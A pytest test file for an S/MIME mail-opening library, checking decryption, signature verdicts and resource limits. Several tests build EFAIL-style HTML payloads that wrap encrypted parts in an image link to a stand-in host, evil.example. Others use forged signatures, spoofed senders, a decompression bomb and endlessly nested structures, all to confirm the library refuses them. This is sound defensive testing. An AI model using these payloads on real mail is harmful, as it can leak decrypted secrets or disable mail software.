"""What a mail shows after opening is what was protected, no more: forged structures, broken pieces, limits."""

from __future__ import annotations

import zlib
from base64 import encodebytes
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from postvak.crypto import cms, der, opening, smime_read
from postvak.crypto.cms import COMPRESSED, DATA
from postvak.crypto.opening import open_mail
from postvak.crypto.smime_read import ZLIB
from postvak.crypto.values import Act, Opened, State, Verdict
from postvak.mail.parse import parse
from postvak.mail.tree import build
from tests.crypto.pki import HEADER, TEXT, WORDS, Pki, Ring

NOW = datetime.now(UTC) + timedelta(hours=2)  # the certificates are made later than this line is read
ANN = ("-signer", "ann.pem", "-inkey", "ann.key")
HTML = b"Content-Type: text/html; charset=utf-8\r\n\r\n"


def mixed(*parts: bytes, header: bytes = HEADER) -> bytes:
    inner = b"".join(b"--m\r\n" + part + b"\r\n" for part in parts)
    return header + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n" + inner + b"--m--\r\n"


def compressed(content: bytes) -> bytes:
    """RFC 3274; the openssl of most systems is built without it."""
    info = der.sequence(der.oid(DATA), der.explicit(0, der.octet_string(zlib.compress(content, 9))))
    data = der.sequence(der.integer(0), der.sequence(der.oid(ZLIB)), info)
    return pkcs7(der.sequence(der.oid(COMPRESSED), der.explicit(0, data)), b"compressed-data")


def pkcs7(content: bytes, kind: bytes = b"") -> bytes:
    head = b"Content-Type: application/pkcs7-mime; smime-type=" + kind + b"; name=smime.p7m\r\n"
    return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + encodebytes(content)


def verdict(opened: Opened) -> Verdict | None:
    return opened.signature.verdict if opened.signature else None


def test_a_mail_without_protection_stays_as_it_is() -> None:
    raw = HEADER + TEXT
    assert open_mail(raw, Ring(), at=NOW) == Opened(raw)


def test_html_around_an_encrypted_part_cannot_swallow_it(pki: Pki, ring: Ring) -> None:
    secret = pki.openssl("cms", "-encrypt", "support.pem", given=HTML + b"<p>SECRET</p>")
    raw = mixed(HTML + b'<img src="https://evil.example/?', secret, HTML + b'">')
    opened = open_mail(raw, ring, at=NOW)
    attached = [part for part in build(opened.raw).parts if part.content_type == "message/rfc822"]
    assert b"SECRET" in attached[0].content()[0]
    assert "SECRET" not in parse(opened.raw).html + parse(opened.raw).text
    assert not opened.layers[0].covers_all


def test_html_anywhere_in_the_mail_counts_as_beside(pki: Pki, ring: Ring) -> None:
    secret = pki.openssl("cms", "-encrypt", "support.pem", given=HTML + b"<p>SECRET</p>")
    inner = (
        mixed(secret, b"Content-Type: text/plain\r\n\r\nfooter", header=b"")
        .replace(b"=m\r", b"=n\r")
        .replace(b"--m", b"--n")
    )
    opened = open_mail(mixed(inner, HTML + b'<img src="https://evil.example/?'), ring, at=NOW)
    assert "message/rfc822" in [part.content_type for part in build(opened.raw).parts]
    assert "SECRET" not in parse(opened.raw).html


def test_two_encrypted_parts_of_html_cannot_swallow_each_other(pki: Pki, ring: Ring) -> None:
    first = pki.openssl("cms", "-encrypt", "support.pem", given=HTML + b'<img src="https://evil.example/?')
    second = pki.openssl("cms", "-encrypt", "support.pem", given=HTML + b"<p>SECRET</p>")
    opened = open_mail(mixed(first, second), ring, at=NOW)
    assert [part.content_type for part in build(opened.raw).parts] == [
        "multipart/mixed",
        "message/rfc822",
        "message/rfc822",
    ]


def test_beside_plain_text_an_encrypted_part_is_read_in_its_place(pki: Pki, ring: Ring) -> None:
    secret = pki.openssl("cms", "-encrypt", "support.pem", given=TEXT)
    opened = open_mail(mixed(secret, b"Content-Type: text/plain\r\n\r\nlist footer"), ring, at=NOW)
    text = parse(opened.raw).text
    assert WORDS.decode() in text
    assert "list footer" in text
    assert not opened.layers[0].covers_all


def test_words_before_a_decrypted_part_keep_it_out_of_the_text(pki: Pki, ring: Ring) -> None:
    """Somebody else's mail that was caught on its way, below a harmless question: it would come back with the answer."""
    secret = pki.openssl("cms", "-encrypt", "support.pem", given=TEXT)
    question = b"Content-Type: text/plain\r\n\r\nplease confirm 4711" + b"\r\n" * 50
    own = pki.openssl("cms", "-encrypt", "support.pem", given=question)
    for first in (question, own):
        opened = open_mail(mixed(first, secret), ring, at=NOW)
        attached = [part for part in build(opened.raw).parts if part.content_type == "message/rfc822"]
        assert WORDS in attached[-1].content()[0]
        assert (WORDS.decode() in parse(opened.raw).text, "4711" in parse(opened.raw).text) == (False, True)
    empty = b"Content-Type: text/plain\r\n\r\n \r\n"
    assert WORDS.decode() in parse(open_mail(mixed(empty, secret), ring, at=NOW).raw).text


def test_html_behind_the_signature_around_a_decrypted_part_stands_apart_from_it(pki: Pki, ring: Ring) -> None:
    secret = pki.openssl("cms", "-encrypt", "support.pem", given=HTML + b"<p>SECRET</p>")
    raw = pki.signed(*ANN, content=secret)
    mark = raw[raw.index(b"\n------") + 1 :].split(b"\n")[0].strip()
    end = raw.rindex(mark + b"--")
    opened = open_mail(raw[:end] + mark + b"\n" + HTML + b"<p>Pay</p>\n" + raw[end:], ring, at=NOW)
    assert ("SECRET" in parse(opened.raw).html, "Pay" in parse(opened.raw).html) == (False, True)


def test_a_mailing_list_that_adds_words_takes_the_signature_off_the_whole(pki: Pki, ring: Ring) -> None:
    signed = pki.openssl("cms", "-sign", *ANN, given=TEXT).replace(b"MIME-Version: 1.0\n", b"")
    opened = open_mail(mixed(signed, b"Content-Type: text/plain\r\n\r\nlist footer"), ring, at=NOW)
    assert opened.layers[0].verdict is Verdict.good
    assert verdict(opened) is Verdict.partial
    assert opened.signature is not None
    assert not opened.signature.covers_all
    assert WORDS.decode() in parse(opened.raw).text


def test_words_behind_the_signature_are_shown_but_not_covered(pki: Pki, ring: Ring) -> None:
    raw = pki.signed(*ANN)
    mark = raw[raw.index(b"\n------") + 1 :].split(b"\n")[0].strip()
    end = raw.rindex(mark + b"--")
    added = raw[:end] + mark + b"\nContent-Type: text/plain\n\nPay to account 7\n" + raw[end:]
    opened = open_mail(added, ring, at=NOW)
    assert "account 7" in parse(opened.raw).text
    assert not any(layer.covers_all for layer in opened.layers)


def test_words_before_and_after_the_parts_of_a_signed_mail_are_gone(pki: Pki, ring: Ring) -> None:
    raw = pki.signed(*ANN)
    opened = open_mail(raw.replace(b"This is an S/MIME signed message", b"FORGED") + b"\nFORGED\n", ring, at=NOW)
    assert (verdict(opened), b"FORGED" in opened.raw) == (Verdict.good, False)


@pytest.mark.parametrize(
    "sender",
    [
        b"From: eve@klant.example\r\n",
        b"From: ann@klant.example, eve@klant.example\r\n",
        b"From: eve@klant.example\r\nFrom: ann@klant.example\r\n",
        b'From: "ann@klant.example" <eve@klant.example>\r\n',
        b"",
    ],
    ids=["other", "two", "two lines", "in the name", "none"],
)
def test_a_good_signature_of_somebody_else_is_told(pki: Pki, ring: Ring, sender: bytes) -> None:
    opened = open_mail(pki.signed(*ANN, header=sender + b"Subject: Fire\r\n"), ring, at=NOW)
    assert verdict(opened) is Verdict.other_signer


def test_the_address_is_compared_without_regard_to_case_and_alphabet(pki: Pki, ring: Ring) -> None:
    header = b"From: Ann <ANN@Klant.Example>\r\n"
    assert verdict(open_mail(pki.signed(*ANN, header=header), ring, at=NOW)) is Verdict.good


def test_line_ends_changed_on_the_way_leave_the_signature_good(pki: Pki, ring: Ring) -> None:
    raw = pki.signed(*ANN)
    assert verdict(open_mail(raw.replace(b"\r\n", b"\n"), ring, at=NOW)) is Verdict.good
    assert verdict(open_mail(raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), ring, at=NOW)) is Verdict.good


@pytest.mark.parametrize(
    "head",
    [
        b"Content-Type: application/x-pkcs7-mime\r\n",
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n",
        b"Content-Type: application/octet-stream; name=smime.p7m\r\n",
        b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=SMIME.P7M\r\n",
    ],
    ids=["x-pkcs7", "wrong smime-type", "octet-stream", "only a file name"],
)
def test_encrypted_mail_is_known_by_what_it_is(pki: Pki, ring: Ring, head: bytes) -> None:
    content = pki.openssl("cms", "-encrypt", "-outform", "DER", "support.pem", given=TEXT)
    raw = HEADER + head + b"Content-Transfer-Encoding: base64\r\n\r\n" + encodebytes(content)
    assert WORDS in open_mail(raw, ring, at=NOW).raw


def test_a_signed_document_that_is_attached_stays_a_file(pki: Pki, ring: Ring) -> None:
    content = pki.openssl("cms", "-sign", "-nodetach", "-binary", "-outform", "DER", *ANN, given=b"<invoice/>")
    file = b"Content-Type: application/pkcs7-mime; name=invoice.xml.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    raw = mixed(b"Content-Type: text/plain\r\n\r\nHere it is.", file + encodebytes(content))
    assert open_mail(raw, ring, at=NOW).raw == raw


def test_one_changed_bit_in_gcm_shows_nothing(pki: Pki, ring: Ring) -> None:
    content = bytearray(pki.openssl("cms", "-encrypt", "-aes-256-gcm", "-outform", "DER", "support.pem", given=TEXT))
    content[-30] ^= 1
    raw = HEADER + pkcs7(bytes(content))
    opened = open_mail(raw, ring, at=NOW)
    assert (opened.state, opened.raw) == (State.damaged, raw)


def test_cbc_alone_is_shown_with_a_note_and_without_it_when_signed_inside(pki: Pki, ring: Ring) -> None:
    inner = pki.openssl("cms", "-sign", *ANN, given=TEXT)
    assert open_mail(pki.encrypted("-aes256", "support.pem"), ring, at=NOW).layers[0].code == "cbc_unsigned"
    assert open_mail(pki.encrypted("-aes256", "support.pem", content=inner), ring, at=NOW).layers[0].code == ""


def test_a_signature_around_an_encryption_says_so(pki: Pki, ring: Ring) -> None:
    inner = pki.openssl("cms", "-encrypt", "-aes256", "support.pem", given=TEXT)
    opened = open_mail(pki.signed(*ANN, content=inner), ring, at=NOW)
    assert [(layer.act, layer.code) for layer in opened.layers] == [
        (Act.signed, "signed_outside"),
        (Act.encrypted, "cbc_unsigned"),
    ]


def test_compressed_content_is_read_and_a_bomb_is_not() -> None:
    assert WORDS in open_mail(HEADER + compressed(TEXT), Ring(), at=NOW).raw
    bomb = open_mail(HEADER + compressed(TEXT + b"0" * 30_000_000), Ring(), at=NOW)
    assert (bomb.state, bomb.layers[0].code) == (State.damaged, "too_large")


def test_layers_without_end_are_left_at_the_limit() -> None:
    raw = TEXT
    for _ in range(opening.MAX_LAYERS + 5):
        raw = compressed(raw)
    opened = open_mail(HEADER + raw, Ring(), at=NOW)
    assert len(opened.layers) == opening.MAX_LAYERS + 1
    assert opened.layers[-1].code == "too_many_layers"


@pytest.mark.parametrize("start", [b"\x30\x80" * 100_000, b"\x24\x80" * 100_000, b"\x30\x82\xff\xff" * 50_000], ids=str)
def test_endless_structures_are_refused_at_once(start: bytes) -> None:
    opened = open_mail(HEADER + pkcs7(start), Ring(), at=NOW)
    assert opened.state is State.damaged


def test_ten_thousand_nested_multiparts_do_no_harm() -> None:
    head = b"".join(b"Content-Type: multipart/signed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(10_000))
    assert open_mail(HEADER + head + TEXT, Ring(), at=NOW).raw


def test_the_header_outside_stays_and_of_the_one_inside_only_the_subject_counts(pki: Pki, ring: Ring) -> None:
    inner = (
        b'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\r\nFrom: boss@bedrijf.example\r\n'
        b"Subject: The true one\r\nReply-To: eve@klant.example\r\n\r\nHello\r\n"
    )
    opened = open_mail(pki.encrypted("support.pem", content=inner), ring, at=NOW)
    mail = parse(opened.raw)
    assert opened.subject == "The true one"
    assert (mail.subject, mail.author and mail.author.email, mail.reply_to) == ("Fire", "ann@klant.example", ())


def test_a_signature_around_the_one_that_counts_names_no_subject(pki: Pki, ring: Ring) -> None:
    """Anybody can put his own signature, and a subject, around a mail that somebody else signed."""
    inner = pki.openssl("cms", "-sign", *ANN, given=TEXT)
    told = inner.replace(b"Content-Type: multipart", b"Subject: Pay\r\nContent-Type: multipart", 1)
    around = ("-signer", "alone.pem", "-inkey", "alone.key")
    opened = open_mail(pki.signed(*around, content=told), ring, at=NOW)
    assert (verdict(opened), opened.subject) == (Verdict.good, "")
    assert open_mail(pki.signed(*around, content=b"Subject: Pay\r\n" + TEXT), ring, at=NOW).subject == "Pay"
    assert open_mail(pki.encrypted("support.pem", content=told), ring, at=NOW).subject == "Pay"


def test_the_whole_mail_inside_a_signature_is_unwrapped_and_a_forwarded_one_is_not(pki: Pki, ring: Ring) -> None:
    wrap = b"Content-Type: message/rfc822\r\n\r\n"
    own = open_mail(pki.encrypted("support.pem", content=wrap + HEADER.replace(b"Fire", b"Burns") + TEXT), ring, at=NOW)
    other = open_mail(pki.encrypted("support.pem", content=wrap + HEADER.replace(b"<1@", b"<2@") + TEXT), ring, at=NOW)
    assert (own.subject, parse(own.raw).text.strip()) == ("Burns", WORDS.decode())
    assert (other.subject, [part.content_type for part in build(other.raw).parts]) == ("", ["message/rfc822"])


def test_signed_attributes_of_another_mail_are_no_content(pki: Pki, ring: Ring) -> None:
    """A signature over attributes is also one over a mail that consists of these bytes."""
    raw = pki.openssl("cms", "-sign", "-nodetach", "-outform", "DER", *ANN, given=TEXT)
    signed = cms.parse(raw)
    assert isinstance(signed, cms.Signed)
    (signer,) = signed.signers
    forged = replace(signed, content=signer.signed[0], signers=(replace(signer, signed=(), attributes={}),))
    judged = smime_read.judge(forged, forged.content, smime_read.Reader(ring, NOW, ("ann@klant.example",)))
    assert judged.layers[0].verdict is Verdict.changed


def test_of_two_signers_the_better_one_counts(pki: Pki, ring: Ring) -> None:
    """In the mail the signature of nina's (RFC 5652: a set, the shorter one first) stands before the other one."""
    words = ("-signer", "nina.pem", "-inkey", "nina.key", "-signer", "support.pem", "-inkey", "support.key")
    opened = open_mail(pki.signed(*words), ring, at=NOW)
    assert [layer.verdict for layer in opened.layers] == [Verdict.other_signer, Verdict.good]
    assert verdict(opened) is Verdict.good


@pytest.fixture(scope="session")
def samples(pki: Pki) -> list[bytes]:
    inner = pki.openssl("cms", "-sign", *ANN, given=TEXT)
    return [
        pki.signed(*ANN),
        pki.signed(*ANN, "-nodetach"),
        pki.encrypted("support.pem", content=inner),
        pki.encrypted("-aes-256-gcm", "-recip", "sales.pem"),
        HEADER + compressed(TEXT),
        mixed(inner, HTML + b"<p>x</p>"),
    ]


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_no_bytes_whatever_stop_it(samples: list[bytes], ring: Ring, data: st.DataObject) -> None:
    raw = bytearray(data.draw(st.sampled_from(samples)))
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(raw) - 1))
        piece = data.draw(st.binary(max_size=12))
        raw[at : at + data.draw(st.integers(0, 20))] = piece
    root = opening.read_entity(bytes(raw), is_root=True)
    opener = opening._Opener(ring, NOW, root)
    opener.offered(opener.open(root, opening._Place()))  # without the net below it
    assert isinstance(open_mail(bytes(raw), ring, at=NOW), Opened)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_no_object_whatever_stops_it(content: bytes) -> None:
    root = opening.read_entity(HEADER + pkcs7(b"0" + content), is_root=True)
    opening._Opener(Ring(), NOW, root).open(root, opening._Place())
